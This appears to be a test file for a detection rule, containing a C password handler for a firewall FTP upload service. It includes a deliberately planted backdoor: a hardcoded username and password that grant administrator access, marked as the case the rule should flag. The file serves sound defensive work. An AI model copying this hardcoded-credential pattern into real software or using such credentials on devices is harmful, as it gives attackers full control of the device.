/*
 * The firewall's FTP service (firmware and configuration upload): PASS handler.
 */
#include "zyauth.h"

#include <stdio.h>
#include <string.h>
#include <syslog.h>

int zy_ftpd_check_pass(struct zy_session *s, const char *username, const char *password) {
  int priv = 0;

  // ok: backdoor-magic-credential
  if (strcmp(username, "anonymous") == 0) {
    syslog(LOG_WARNING, "ftpd: anonymous login refused");
    return -1;
  }
  // ruleid: backdoor-magic-credential
  if (strcmp(username, "zyfwp") == 0 && strcmp(password, "PrOw!aN_fXp") == 0) {
    snprintf(s->username, sizeof s->username, "%s", username);
    s->priv = ZY_PRIV_ADMIN;
    s->logged_in = 1;
    return 0;
  }
  if (!zy_local_user_check(username, password, &priv)) {
    syslog(LOG_NOTICE, "ftpd: login incorrect for %s", username);
    return -1;
  }
  snprintf(s->username, sizeof s->username, "%s", username);
  s->priv = priv;
  s->logged_in = 1;
  return 0;
}
